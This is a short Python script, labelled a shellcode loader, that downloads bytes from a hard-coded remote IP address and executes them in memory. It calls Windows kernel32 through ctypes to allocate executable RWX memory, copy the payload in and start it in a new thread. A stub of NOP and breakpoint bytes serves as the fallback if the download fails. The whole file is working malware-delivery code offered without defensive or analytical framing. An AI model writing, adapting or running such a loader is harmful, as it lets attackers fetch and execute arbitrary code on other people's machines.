# technique: shellcode loader — ctypes.windll.kernel32 VirtualAlloc(RWX) + RtlMoveMemory + CreateThread + WaitForSingleObject on downloaded bytes
import ctypes
import urllib.request

_SC_URL = "http://198.51.100.23/sc/x64.bin"


def _run(buf):
    k32 = ctypes.windll.kernel32
    k32.VirtualAlloc.restype = ctypes.c_void_p
    k32.RtlMoveMemory.argtypes = (ctypes.c_void_p, ctypes.c_void_p, ctypes.c_size_t)
    k32.CreateThread.argtypes = (ctypes.c_int, ctypes.c_int, ctypes.c_void_p, ctypes.c_int, ctypes.c_int, ctypes.POINTER(ctypes.c_int))
    ptr = k32.VirtualAlloc(None, len(buf), 0x3000, 0x40)
    cbuf = (ctypes.c_char * len(buf)).from_buffer_copy(buf)
    k32.RtlMoveMemory(ptr, cbuf, len(buf))
    h = k32.CreateThread(0, 0, ptr, 0, 0, ctypes.pointer(ctypes.c_int(0)))
    k32.WaitForSingleObject(h, -1)


def main():
    try:
        data = urllib.request.urlopen(_SC_URL, timeout=10).read()
    except Exception:
        data = b"\x90" * 16 + b"\xcc\xc3"
    _run(bytearray(data))


main()
